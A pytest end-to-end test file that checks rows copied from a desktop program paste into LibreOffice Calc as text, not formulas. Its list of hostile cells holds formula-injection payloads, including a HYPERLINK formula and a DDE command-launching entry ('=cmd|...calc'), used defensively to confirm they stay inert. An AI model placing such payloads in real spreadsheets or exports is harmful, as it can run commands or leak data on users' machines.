"""What is copied is text in LibreOffice Calc, whichever way it is pasted."""

import json
import re
import secrets
import subprocess
import sys
from pathlib import Path

import pytest

from tests.desktop import Desktop
from tests.helpers import result_file

HEADER = ("備考", "メモ", "メールアドレス", "ステータス", "ステータス詳細", "終わり")
LINK = '=HYPERLINK("http://example.invalid/"&A1;"詳しく")'
HOSTILE = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", LINK),
    *(" =1+1", "\n=1+1", "\t=1+1", "\r=1+1", "a\n=1+1", "a\t=1+1", "a =1+1", "a,=1+1", "a;=1+1"),
    *('"=1+1"', '"', 'a "b" c', "'x", "{=1+1}", "=cmd|'/C calc'!A0", "\u3000=1+1", "\u200b=1+1"),
    *("+81-3-1234-5678", "a  b", " a ", "<b>=1</b>&amp;", "=1+1@example.jp"),
]
NUMBERS = ["0012", "1e5", "50%", "2026/1/2", "12:30", "1,234", "TRUE", "-5", "  0012"]
PYTHON = Path("/usr/bin/python3")  # LibreOffice comes with nothing for another


def pasted(
    desktop: Desktop, folder: Path, command: str, word: str, *unticked: str
) -> list[list[tuple[str, str]]]:
    """The cells of an empty sheet after what is on the clipboard, with `word` in it, is pasted."""
    if subprocess.run([PYTHON, "-c", "import uno"], capture_output=True, check=False).returncode:
        pytest.skip("not installed: python3-uno")
    settings = f"-env:UserInstallation={(folder / 'settings').as_uri()}"
    options = ("--norestore", "--nologo", "--nofirststartwizard")
    # Short, as a pipe's name must be, and no other test's: its LibreOffice may still be ending.
    pipe = f"nexgui-{secrets.token_hex(4)}"
    desktop.start("soffice", settings, *options, f"--accept=pipe,name={pipe};urp")
    script = Path(__file__).with_name("calc.py")
    calc = desktop.start(PYTHON, script, pipe, command, word, *unticked)
    output, errors = calc.communicate(timeout=120)
    assert calc.returncode == 0, errors
    return [[(kind, words) for kind, words in row] for row in json.loads(output)]


def copied(desktop: Desktop, folder: Path, keys: str) -> None:
    """Has the program copy all rows of a hostile file, one text in two columns of each."""
    texts = HOSTILE + NUMBERS
    rows = [(each, f"{each}x", f"{each}@a.jp", "エラー", "受信拒否", "終") for each in texts]
    path = result_file(folder, rows, header=HEADER, encoding="utf-8")
    desktop.start(sys.executable, "-m", "nexgui", path)
    window = desktop.window(f"{path.name} - NexGUI")
    desktop.press(window, "ctrl+a")
    desktop.press(window, keys)


def of_file(cells: list[list[tuple[str, str]]]) -> list[list[tuple[str, str]]]:
    """The first two columns of the file, below their headers."""
    headers = [words for _, words in cells[0]]
    first = headers.index(HEADER[0])
    assert headers[-len(HEADER) :] == list(HEADER)
    assert all(row[-1] == ("TEXT", "終") for row in cells[1:])
    return [row[first : first + 2] for row in cells[1:]]


def in_cell(words: str) -> str:
    """What HTML can have of a cell: no tab, and no break at an end of it."""
    return re.sub("\r\n|\r", "\n", words).strip("\n").replace("\t", " ")


@pytest.mark.e2e
def test_rows_are_text_in_a_sheet_to_the_letter(desktop: Desktop, tmp_path: Path) -> None:
    copied(desktop, tmp_path, "ctrl+c")
    cells = pasted(desktop, tmp_path, ".uno:Paste", HEADER[-1])
    assert {kind for row in cells for kind, _ in row} <= {"TEXT", "EMPTY"}
    expected = [(in_cell(each), in_cell(f"{each}x")) for each in HOSTILE + NUMBERS]
    found = [(one, other) for (_, one), (_, other) in of_file(cells)]
    assert sorted(found) == sorted(expected)  # those with a suggestion come first


@pytest.mark.e2e
def test_rows_pasted_as_plain_text_run_nothing(desktop: Desktop, tmp_path: Path) -> None:
    copied(desktop, tmp_path, "ctrl+c")
    others = ("Comma", "Semicolon", "Space")  # than the tab, at which Calc may part cells
    cells = pasted(desktop, tmp_path, ".uno:PasteUnformatted", HEADER[-1], *others)
    assert not [each for row in cells for each in row if each[0] == "FORMULA"]
    found = [(kind, words.replace("\xa0", " ").split()) for (kind, words), _ in of_file(cells)]
    assert all(("TEXT", each.split()) in found for each in HOSTILE)


@pytest.mark.e2e
def test_rows_parted_as_calc_offers_it_run_nothing(desktop: Desktop, tmp_path: Path) -> None:
    copied(desktop, tmp_path, "ctrl+c")
    cells = pasted(desktop, tmp_path, ".uno:PasteUnformatted", HEADER[-1])
    assert len(cells) > len(HOSTILE)
    assert not [each for row in cells for each in row if each[0] == "FORMULA"]


@pytest.mark.e2e
def test_addresses_are_text_in_a_sheet(desktop: Desktop, tmp_path: Path) -> None:
    copied(desktop, tmp_path, "ctrl+shift+c")
    cells = pasted(desktop, tmp_path, ".uno:Paste", "0012@a.jp")
    assert {kind for row in cells for kind, _ in row} == {"TEXT"}
    expected = [re.sub("[\t\r\n]", " ", f"{each}@a.jp") for each in HOSTILE + NUMBERS]
    assert sorted(words for ((_, words),) in cells) == sorted(expected)
